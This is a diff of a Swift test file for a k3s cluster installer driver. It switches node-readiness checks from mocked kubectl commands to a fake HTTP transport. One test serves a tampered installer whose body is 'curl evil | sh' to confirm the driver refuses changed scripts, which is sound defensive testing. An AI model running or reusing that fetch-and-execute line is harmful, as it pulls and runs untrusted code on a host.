@@ -49,14 +49,6 @@ final class K3sWorld: @unchecked Sendable {
             install()
             return CommandOutput(status: 0, stdout: "[INFO]  systemd: Starting k3s\n")
         }
-        if a.first == "kubectl" && kubectlArgs(a).starts(with: ["get", "nodes"]) {
-            #expect(!a.contains("--context"))
-            if apiDown {
-                return CommandOutput(
-                    status: 1, stdout: "", stderr: "The connection to the server 127.0.0.1:6443 was refused\n")
-            }
-            return CommandOutput(status: 0, stdout: nodesJSON([("gpu-box", nodeReady)]))
-        }
         if a == [paths.k3sBinary, "--version"] {
             return CommandOutput(status: 0, stdout: "k3s version v1.31.4+k3s1 (a562d090)\ngo version go1.22.9\n")
         }
@@ -83,18 +75,33 @@ final class K3sWorld: @unchecked Sendable {
     }
 }
 
+extension K3sWorld {
+    /// LIST /api/v1/nodes at k3s's API server (the server of k3s.yaml and of aphex's copy).
+    func serve(_ r: HTTPRequest) throws -> HTTPResponse {
+        lock.lock()
+        defer { lock.unlock() }
+        guard r.method == "GET", r.url == Self.nodesURL else { throw UnscriptedRequest(url: r.url) }
+        if apiDown { throw apiServerRefused(r) }
+        return nodesResponse([("gpu-box", nodeReady)])
+    }
+
+    static let nodesURL = testServer(context: "default") + "/api/v1/nodes"
+}
+
 struct K3sFixture {
     let scratch = Scratch()
     let world: K3sWorld
     let runner: RecordingRunner
     let clock = VirtualClock()
-    let transport = FakeTransport { r in HTTPResponse(status: 200, body: Array(installerScript.utf8)) }
+    let transport: FakeTransport
     let host: HostContext
 
     init(uid: UInt32 = 0, env: [String: String] = [:]) {
         world = K3sWorld(paths: HostPaths(root: scratch.hostRoot))
         let w = world
         runner = RecordingRunner { try w.handle($0) }
+        transport = FakeTransport.serving(
+            nodes: { try w.serve($0) }, other: { _ in HTTPResponse(status: 200, body: Array(installerScript.utf8)) })
         host = makeHost(scratch, runner: runner, clock: clock, uid: uid, env: env, transport: transport)
     }
 
@@ -131,7 +138,7 @@ struct K3sFixture {
         let access = try await f.driver(K3sInstallSpec(name: "platform-cluster", disableTraefik: true)).ensureCluster()
         #expect(access.outcome == .created)
         // The release's own install.sh, not get.k3s.io's latest.
-        #expect(f.transport.requested == ["https://raw.githubusercontent.com/k3s-io/k3s/v1.31.4%2Bk3s1/install.sh"])
+        #expect(f.transport.downloads == ["https://raw.githubusercontent.com/k3s-io/k3s/v1.31.4%2Bk3s1/install.sh"])
         let install = try #require(f.runner.commands.first { $0.argv.first == "sh" })
         #expect(
             install.argv.count == 2 && install.argv[1].hasPrefix(f.scratch.tmp + "/aphex-k3s-")
@@ -163,11 +170,8 @@ struct K3sFixture {
         let argv = f.runner.argvs
         // nothing installed yet: no probe read; the installer; one node read through aphex's copy
         let installer = try #require(argv.first { $0.first == "sh" })
-        #expect(
-            argv == [
-                installer,
-                ["kubectl", "--kubeconfig", f.kubeconfig, "get", "nodes", "-o", "json", "--request-timeout", "10s"]
-            ])
+        #expect(argv == [installer])
+        #expect(f.transport.nodeReads == [K3sWorld.nodesURL])
         #expect(f.runner.commands[0].environment["INSTALL_K3S_VERSION"] == "v1.30.8+k3s1")
         #expect(f.runner.commands[0].environment["INSTALL_K3S_EXEC"] == "--write-kubeconfig-mode 0600")
     }
@@ -179,18 +183,14 @@ struct K3sFixture {
             try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date
         let recordBefore = FileManager.default.contents(atPath: ClusterRecord.path(f.host, name: "platform-cluster"))
         let n = f.runner.argvs.count
+        let reads = f.transport.nodeReads.count
         let again = try await f.driver().ensureCluster()
         #expect(again.outcome == .reused)
         #expect(f.world.installerRuns.count == 1)
-        #expect(f.transport.requested.count == 1)
-        #expect(
-            Array(f.runner.argvs[n...]) == [
-                [
-                    "kubectl", "--kubeconfig", f.world.paths.k3sKubeconfig, "get", "nodes", "-o", "json",
-                    "--request-timeout", "10s"
-                ],
-                ["kubectl", "--kubeconfig", f.kubeconfig, "get", "nodes", "-o", "json", "--request-timeout", "10s"]
-            ])
+        #expect(f.transport.downloads.count == 1)
+        // no command; two node reads: the probe (k3s.yaml) and the wait (aphex's copy)
+        #expect(f.runner.argvs.count == n)
+        #expect(f.transport.nodeReads.count == reads + 2)
         #expect(
             try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date
                 == kubeconfigBefore)
@@ -252,7 +252,9 @@ struct K3sFixture {
         scratch.write(script, installerScript)
         let world = K3sWorld(paths: HostPaths(root: scratch.hostRoot))
         let runner = RecordingRunner { try world.handle($0) }
-        let host = makeHost(scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": "file://" + script])
+        let host = makeHost(
+            scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": "file://" + script],
+            transport: FakeTransport.serving(nodes: { try world.serve($0) }))
         _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
         #expect(world.installerRuns.first?.script == installerScript)
 
@@ -337,15 +339,16 @@ struct K3sFixture {
         f.world.install()
         f.world.nodeReady = false
         let w = f.world, clock = f.clock
-        let runner = RecordingRunner { c in
+        let runner = RecordingRunner { try w.handle($0) }
+        let transport = FakeTransport.serving(nodes: { r in
             if clock.now() >= .seconds(4) { w.lock.withLock { w.nodeReady = true } }
-            return try w.handle(c)
-        }
-        let host = makeHost(f.scratch, runner: runner, clock: clock, uid: 0, transport: f.transport)
+            return try w.serve(r)
+        })
+        let host = makeHost(f.scratch, runner: runner, clock: clock, uid: 0, transport: transport)
         let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
         #expect(access.outcome == .reused)
         #expect(f.world.installerRuns.isEmpty)
-        #expect(f.transport.requested.isEmpty)
+        #expect(transport.downloads.isEmpty)
         #expect(access.nodes.allSatisfy { $0.ready })
     }
 }
@@ -362,7 +365,7 @@ struct K3sFixture {
         let runner = RecordingRunner { try world.handle($0) }
         var host = makeHost(
             scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/install.sh"])
-        host.makeTransport = { CurlTransport(tls: $0) }
+        host.makeTransport = { NodeRoutingTransport(nodes: { try world.serve($0) }, other: CurlTransport(tls: $0)) }
         let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
         #expect(access.outcome == .created)
         #expect(server.requests.map { "\($0.method) \($0.path)" } == ["GET /install.sh"])
@@ -375,7 +378,7 @@ struct K3sFixture {
         let runner2 = RecordingRunner { try world2.handle($0) }
         var host2 = makeHost(
             scratch2, runner: runner2, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/missing.sh"])
-        host2.makeTransport = { CurlTransport(tls: $0) }
+        host2.makeTransport = { NodeRoutingTransport(nodes: { try world2.serve($0) }, other: CurlTransport(tls: $0)) }
         let e = await #expect(throws: AphexError.self) {
             _ = try await K3sDriver(host: host2, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
         }
@@ -441,7 +444,10 @@ struct K3sFixture {
 
         // Reinstall (uninstalled meanwhile) with a different script: refused, nothing run.
         _ = try await f.driver().delete()
-        let changed = FakeTransport { _ in HTTPResponse(status: 200, body: Array("#!/bin/sh\ncurl evil | sh\n".utf8)) }
+        let w = f.world
+        let changed = FakeTransport.serving(
+            nodes: { try w.serve($0) },
+            other: { _ in HTTPResponse(status: 200, body: Array("#!/bin/sh\ncurl evil | sh\n".utf8)) })
         let host = makeHost(f.scratch, runner: f.runner, clock: f.clock, uid: 0, transport: changed)
         let runs = f.world.installerRuns.count
         let e = await #expect(throws: AphexError.self) {
@@ -480,7 +486,7 @@ struct K3sFixture {
         #expect(e?.status == .usage)
         #expect(e?.message.contains("--require-pinned") == true)
         #expect(e?.message.contains("k3s-installer") == true)
-        #expect(f.transport.requested.isEmpty)
+        #expect(f.transport.downloads.isEmpty)
         #expect(f.world.installerRuns.isEmpty)
         #expect(
             f.driver(K3sInstallSpec(name: "platform-cluster", requirePinned: true)).planEnsure()
@@ -497,14 +503,14 @@ struct K3sFixture {
         }
         #expect(e?.status == .usage)
         #expect(e?.message.contains("only over https://") == true)
-        #expect(f.transport.requested.isEmpty)
+        #expect(f.transport.downloads.isEmpty)
         // From the test hook: only loopback, only in a test build (the simulator's installer).
         let g = K3sFixture(env: ["APHEX_K3S_INSTALL_URL": "http://mirror.example/install.sh"])
         await #expect(throws: AphexError.self) { _ = try await g.driver().ensureCluster() }
-        #expect(g.transport.requested.isEmpty)
+        #expect(g.transport.downloads.isEmpty)
         let h = K3sFixture(env: ["APHEX_K3S_INSTALL_URL": "http://127.0.0.1:9/install.sh"])
         _ = try await h.driver().ensureCluster()
-        #expect(h.transport.requested == ["http://127.0.0.1:9/install.sh"])
+        #expect(h.transport.downloads == ["http://127.0.0.1:9/install.sh"])
     }
 
     @Test func componentsFileURLIsUsedWithItsVersion() async throws {
@@ -512,7 +518,7 @@ struct K3sFixture {
         _ = try await f.driver(
             K3sInstallSpec(name: "platform-cluster", installerURL: "https://mirror.example/k3s/{version}/install.sh")
         ).ensureCluster()
-        #expect(f.transport.requested == ["https://mirror.example/k3s/v1.31.4+k3s1/install.sh"])
+        #expect(f.transport.downloads == ["https://mirror.example/k3s/v1.31.4+k3s1/install.sh"])
     }
 
     @Test func aReleaseBuildRunningAsRootRefusesTheTestHooks() async throws {
